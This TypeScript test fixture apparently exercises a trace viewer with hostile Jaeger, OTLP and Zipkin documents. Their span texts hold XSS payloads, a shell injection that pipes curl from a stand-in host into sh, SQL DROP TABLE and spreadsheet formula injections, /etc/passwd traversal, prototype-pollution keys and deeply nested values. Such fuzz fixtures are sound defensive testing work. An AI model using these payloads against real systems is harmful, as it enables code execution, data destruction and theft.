import { ProtoWriter } from '@/formats/bench/proto-writer'

/**
 * Traces whose every text was written by somebody who means harm, in all formats, the same ones
 * each time. What would run says so in `window.pwned` or asks `pwned.invalid`.
 */

const RUN = 'window.pwned=1'

/** What stands in names, keys, values and wherever else a trace has text. */
export const hostileTexts: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  image: `<img src=x onerror="${RUN}">`,
  svg: `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s>`,
  'closes what it stands in': `"></textarea></title></style></script><img src=x onerror=${RUN}>`,
  'an attribute': `" onmouseover="${RUN}" x="`,
  frame: '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  'script address': `javascript:${RUN}//`,
  'script address in disguise': `\u0001java\tscript:${RUN}`,
  'data address': `data:text/html,<script>opener.pwned=1</script>`,
  'address with a name': 'https://user:secret@pwned.invalid/a?b=c',
  'address of a host': '//pwned.invalid/%2e%2e/',
  template: `{{constructor.constructor('${RUN}')()}}\${${RUN}}<%= ${RUN} %>`,
  'Markdown image': '![x](https://pwned.invalid/x.png)',
  'Markdown link': `[click](javascript:${RUN}) <https://pwned.invalid>`,
  'Markdown block': `\n\n# Heading\n\n- item\n\n| a | b |\n|---|---|\n\`\`\`\n<b>bold</b>`,
  mention: '@channel <!everyone> <@U1> #1 &lt;b&gt;',
  formula: "=cmd|' /C calc'!A0",
  'formula in disguise': '\t+HYPERLINK("https://pwned.invalid","x"),"y"\r\n@SUM(1)',
  terminal: '\u001b[31mred\u001b]8;;https://pwned.invalid\u0007link\u001b[2J',
  shell: `'; curl https://pwned.invalid | sh; $(id) \`id\` #\\`,
  SQL: `'; DROP TABLE spans; --`,
  bidi: 'access\u202etxt.exe\u2066\u2067\u200f',
  invisible: 'a\u0000b\u200bc\u00add\ufeffe\u2028f\u2029g\u0085',
  'half a character': '\ud800 lone \udfff',
  'many marks': `Z${'\u0301\u0335\u0489'.repeat(60)}algo`,
  'no break': 'W'.repeat(5000),
  'right to left': 'שלום مرحبا '.repeat(50),
  path: '../../../../etc/passwd\\..\\..',
  'the prototype': '__proto__',
  'the maker': 'constructor',
  'a method': 'toString',
  'another method': 'hasOwnProperty',
  'a promise': 'then',
  empty: '',
  blank: ' \n\t ',
  'a million': `<b>${'long '.repeat(200_000)}</b>`,
}

/** How deep values are nested; a reader that recurses has no such stack. */
const DEEP = 10_000

export const HOSTILE_TRACE_ID = 'dead0000beef0000dead0000beef0000'
const EPOCH_MICROS = 1_767_323_045_000_000
/** Each span lasts so long, and begins a millisecond after the one before. */
const MICROS = 90_000

interface HostileSpan {
  readonly id: string
  readonly parent: string
  readonly text: string
  /** Micros since 1970. */
  readonly start: number
  readonly isFailed: boolean
}

/** A root, and beneath it one for each text. */
const SPANS: readonly HostileSpan[] = Object.values(hostileTexts).map((text, i) => ({
  id: hostileSpanId(i),
  parent: i === 0 ? '' : hostileSpanId(0),
  text,
  start: EPOCH_MICROS + i * 1000,
  isFailed: i % 2 === 1,
}))

/** Of the nth text. */
export function hostileSpanId(n: number): string {
  return (n + 1).toString(16).padStart(16, '0')
}

/** Attributes of a span, an event or a link. */
function attributesOf(text: string): readonly (readonly [key: string, value: string])[] {
  // Once is enough of a megabyte.
  if (text.length > 100_000) return [[text, text]]
  return [
    [text, text],
    ['url.full', text],
    ['http.request.method', text],
    ['db.query.text', text],
    ['exception.stacktrace', `${text}\n    at ${text}`],
    ['json', JSON.stringify({ [text]: text, list: [text] })],
    ...PROTOTYPE_KEYS.map((key) => [key, text] as const),
  ]
}

const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf']

/** On the root alone. */
const DEEP_TEXTS = [
  ['deep.list', '['.repeat(DEEP) + ']'.repeat(DEEP)],
  ['deep.object', `${'{"a":'.repeat(DEEP)}1${'}'.repeat(DEEP)}`],
  ['deep.open', '[{"a":'.repeat(DEEP)],
] as const

/** Keys that would change every object, were the document taken for one. */
const POLLUTION = Object.fromEntries([
  ['__proto__', { polluted: 1 }],
  ['constructor', { prototype: { polluted: 1 } }],
])

function jaegerJson(): string {
  const tags = (list: readonly (readonly [string, unknown])[]) =>
    list.map(([key, value]) => ({ key, type: 'string', value }))
  // Processes are named by hostile keys, and so are looked up by them.
  const processOf = (s: HostileSpan) => s.text.slice(0, 1000) || 'none'
  const traceID = HOSTILE_TRACE_ID
  return JSON.stringify({
    ...POLLUTION,
    data: [
      {
        ...POLLUTION,
        traceID,
        processes: Object.fromEntries(
          SPANS.map((s) => [
            processOf(s),
            { serviceName: s.text, tags: tags(attributesOf(s.text)), ...POLLUTION },
          ]),
        ),
        spans: [
          ...SPANS.map((s, i) => ({
            ...POLLUTION,
            traceID,
            spanID: s.id,
            operationName: s.text,
            references: s.parent ? [{ refType: 'CHILD_OF', traceID, spanID: s.parent }] : [],
            startTime: s.start,
            duration: MICROS,
            processID: processOf(s),
            tags: [
              ...tags(attributesOf(s.text)),
              ...tags(i === 0 ? DEEP_TEXTS : []),
              ...(s.isFailed ? [{ key: 'error', type: 'bool', value: true }] : []),
              { key: 'otel.status_description', type: 'string', value: s.text },
              { key: 'otel.scope.name', type: 'string', value: s.text },
              { key: 'w3c.tracestate', type: 'string', value: s.text },
              { key: 'of no type', type: s.text, value: { [s.text]: s.text } },
            ],
            logs: [
              {
                timestamp: s.start + 1,
                fields: tags([['event', s.text], ...attributesOf(s.text)]),
              },
            ],
            warnings: [s.text],
          })),
          { traceID, spanID: hostileTexts.script, operationName: 'no id', startTime: EPOCH_MICROS },
        ],
        warnings: [hostileTexts.image],
      },
    ],
    errors: null,
  })
}

function otlpJson(): string {
  const list = (some: readonly (readonly [string, string])[]) =>
    some.map(([key, stringValue]) => ({ key, value: { stringValue, ...POLLUTION } }))
  const document = JSON.stringify({
    ...POLLUTION,
    resourceSpans: SPANS.map((s, i) => ({
      resource: {
        attributes: list([['service.name', s.text], ...attributesOf(s.text)]),
        ...POLLUTION,
      },
      schemaUrl: s.text,
      scopeSpans: [
        {
          scope: { name: s.text, version: s.text, attributes: list(attributesOf(s.text)) },
          spans: [
            {
              ...POLLUTION,
              traceId: HOSTILE_TRACE_ID,
              spanId: s.id,
              parentSpanId: s.parent,
              traceState: s.text,
              name: s.text,
              kind: 2,
              startTimeUnixNano: `${s.start}000`,
              endTimeUnixNano: `${s.start + MICROS}000`,
              attributes: [
                ...list(attributesOf(s.text)),
                ...(i === 0 ? [...list(DEEP_TEXTS), { key: 'deep.array', value: 0 }] : []),
                {
                  key: 'map',
                  value: {
                    kvlistValue: {
                      values: list([
                        ['__proto__', s.text],
                        [s.text, s.text],
                      ]),
                    },
                  },
                },
              ],
              events: [
                {
                  timeUnixNano: `${s.start + 1}000`,
                  name: s.text,
                  attributes: list(attributesOf(s.text)),
                },
              ],
              links: [
                {
                  traceId: HOSTILE_TRACE_ID,
                  spanId: s.id,
                  traceState: s.text,
                  attributes: list(attributesOf(s.text)),
                },
              ],
              status: { code: s.isFailed ? 2 : 0, message: s.text },
            },
          ],
        },
      ],
    })),
  })
  const open = '{"arrayValue":{"values":['.repeat(DEEP)
  const deep = `${open}{"stringValue":"<b>"}${']}}'.repeat(DEEP)}`
  return document.replace(
    '{"key":"deep.array","value":0}',
    () => `{"key":"deep.array","value":${deep}}`,
  )
}

function otlpProto(): Uint8Array {
  const w = new ProtoWriter()
  const attributes = (field: number, list: readonly (readonly [string, string])[]) => {
    for (const [key, value] of list) {
      w.message(field, () => {
        w.text(1, key)
        w.message(2, () => w.text(1, value))
      })
    }
  }
  for (const [i, s] of SPANS.entries()) {
    w.message(1, () => {
      w.message(1, () => attributes(1, [['service.name', s.text], ...attributesOf(s.text)]))
      w.message(2, () => {
        w.message(1, () => {
          w.text(1, s.text)
          w.text(2, s.text)
        })
        w.message(2, () => {
          w.id(1, HOSTILE_TRACE_ID)
          w.id(2, s.id)
          w.text(3, s.text)
          if (s.parent) w.id(4, s.parent)
          w.text(5, s.text)
          w.number(6, 2)
          w.fixed64(7, BigInt(s.start) * 1000n)
          w.fixed64(8, BigInt(s.start + MICROS) * 1000n)
          attributes(9, [...attributesOf(s.text), ...(i === 0 ? DEEP_TEXTS : [])])
          if (i === 0) {
            w.message(9, () => {
              w.text(1, 'deep.array')
              w.bytes(2, deepArray())
            })
            w.message(9, () => {
              w.text(1, 'no UTF-8')
              w.message(2, () =>
                w.bytes(1, Uint8Array.of(0xff, 0xfe, 0x3c, 0x62, 0x3e, 0xc0, 0x80)),
              )
            })
          }
          w.message(11, () => {
            w.fixed64(1, BigInt(s.start + 1) * 1000n)
            w.text(2, s.text)
            attributes(3, attributesOf(s.text))
          })
          w.message(13, () => {
            w.id(1, HOSTILE_TRACE_ID)
            w.id(2, s.id)
            w.text(3, s.text)
            attributes(4, attributesOf(s.text))
          })
          w.message(15, () => {
            w.text(2, s.text)
            w.number(3, s.isFailed ? 2 : 0)
          })
        })
      })
    })
  }
  return w.finish()
}

/** An AnyValue: an array in an array in an array, written from the inside out. */
function deepArray(): Uint8Array {
  const reversed: number[] = [...'>b<'].map((c) => c.charCodeAt(0))
  reversed.push(3, 0x0a)
  for (let i = 0; i < DEEP; i++) {
    // values of an ArrayValue, and array_value of the AnyValue around it.
    for (const tag of [0x0a, 0x2a]) reversed.push(...varint(reversed.length).reverse(), tag)
  }
  return Uint8Array.from(reversed.reverse())
}

function varint(value: number): number[] {
  const bytes: number[] = []
  let rest = value
  for (; rest > 127; rest >>= 7) bytes.push((rest & 127) | 128)
  return [...bytes, rest]
}

function zipkinJson(): string {
  return JSON.stringify([
    ...SPANS.map((s, i) => ({
      ...POLLUTION,
      traceId: HOSTILE_TRACE_ID,
      id: s.id,
      ...(s.parent && { parentId: s.parent }),
      name: s.text,
      timestamp: s.start,
      duration: MICROS,
      localEndpoint: { serviceName: s.text, ipv4: s.text },
      remoteEndpoint: { serviceName: s.text, ipv6: s.text },
      annotations: [{ timestamp: s.start + 1, value: s.text }],
      tags: Object.fromEntries([
        ...attributesOf(s.text),
        ...(i === 0 ? DEEP_TEXTS : []),
        ...(s.isFailed ? [['error', s.text] as const] : []),
      ]),
    })),
    { traceId: HOSTILE_TRACE_ID, id: hostileTexts.script, name: 'no id' },
  ])
}

/** Makes the document of a format; the names are those of the formats. */
export const hostileDocuments: Readonly<Record<string, () => string | Uint8Array>> = {
  'Jaeger JSON': jaegerJson,
  'OTLP JSON': otlpJson,
  'OTLP protobuf': otlpProto,
  'Zipkin JSON': zipkinJson,
}
